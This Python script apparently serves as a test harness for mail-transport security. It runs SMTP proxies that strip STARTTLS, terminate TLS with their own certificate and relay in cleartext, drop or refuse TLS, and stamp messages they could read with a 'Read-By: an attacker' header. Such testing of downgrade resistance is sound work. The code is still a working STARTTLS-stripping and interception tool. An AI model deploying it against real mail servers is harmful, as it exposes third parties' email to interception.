#!/usr/bin/python3
"""Men in the middle: each sits at an address where senders look for a mail server, and passes on to it what he likes.

    attacker.py FILE

FILE is a JSON array of objects: `address`, `upstream`, `how` and `pem` (the key and certificate of his own). `how`:
`strip` takes STARTTLS out of what the server offers, `swap` answers it himself and goes on in the clear to the server,
`break` takes it and hangs up, `refuse` says 454 to it. A message that he could read gets a field that says so. `demand` is no
attacker, but lends a server what it lacks: over TLS it offers REQUIRETLS, and keeps the word to itself.
"""

import json
import socket
import socketserver
import ssl
import sys
import threading

#: Not offered, so that every command has a line and a reply.
HIDDEN = (b"CHUNKING", b"BINARYMIME")


class Victim:
    """A connection by lines."""

    def __init__(self, connection):
        self.use(connection)

    def use(self, connection):
        connection.settimeout(60)
        self.socket, self.file = connection, connection.makefile("rb")

    def line(self):
        line = self.file.readline(4096)
        if not line:
            raise ConnectionError("closed")
        return line

    def reply(self):
        """All lines of a reply."""
        lines = [self.line()]
        while lines[-1][3:4] == b"-":
            lines.append(self.line())
        return lines

    def send(self, *lines):
        self.socket.sendall(b"".join(lines))


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        try:
            with socket.create_connection((self.server.upstream, 25), 20) as upstream:
                self.pass_on(Victim(self.request), Victim(upstream))
        except OSError:
            pass

    def pass_on(self, client, server):
        self.is_demanded = False
        hides = self.server.how == "strip"
        client.send(*server.reply())
        while True:
            line = client.line()
            verb = line.strip().upper().split(b" ")[0]
            if verb == b"STARTTLS":
                if not self.start_tls(client):
                    return
                hides = True
                continue
            demands = self.server.how == "demand" and isinstance(client.socket, ssl.SSLSocket)
            is_demanded = demands and verb == b"MAIL" and b" REQUIRETLS" in line
            server.send(line.replace(b" REQUIRETLS", b"") if is_demanded else line)
            reply = server.reply()
            client.send(*(self.without(reply, hides, demands) if verb == b"EHLO" else reply))
            self.is_demanded = is_demanded if verb == b"MAIL" else self.is_demanded
            if verb == b"DATA" and reply[0].startswith(b"354"):
                if self.is_demanded:
                    server.send(b"Demanded: REQUIRETLS\r\n")
                server.send(b"Read-By: an attacker, %s\r\n" % (
                    b"tls" if isinstance(client.socket, ssl.SSLSocket) else b"clear"))
                while line != b".\r\n":
                    line = client.line()
                    server.send(line)
                client.send(*server.reply())
            if verb == b"QUIT":
                return

    def start_tls(self, client):
        """Whether the connection goes on, encrypted to the attacker."""
        if self.server.how in ("strip", "refuse"):
            client.send(b"454 4.7.0 TLS is not available\r\n")
            return True
        client.send(b"220 2.0.0 Ready\r\n")
        if self.server.how == "break":
            return False
        client.use(self.server.context.wrap_socket(client.socket, server_side=True))
        return True

    @staticmethod
    def without(reply, hides, demands):
        hidden = HIDDEN + ((b"STARTTLS",) if hides else ())
        kept = [line for line in reply if line[4:].strip() not in hidden]
        if demands:
            kept.append(b"250 REQUIRETLS\r\n")
        return [line[:3] + (b" " if place == len(kept) - 1 else b"-") + line[4:] for place, line in enumerate(kept)]


class Attacker(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True

    def __init__(self, address, upstream, how, pem):
        self.upstream, self.how = upstream, how
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(pem)
        super().__init__((address, 25), Handler)


def main(path):
    with open(path, encoding="utf-8") as file:
        attackers = [Attacker(**each) for each in json.load(file)]
    threads = [threading.Thread(target=each.serve_forever) for each in attackers]
    for thread in threads:
        thread.start()
    print("ready", flush=True)
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main(sys.argv[1])
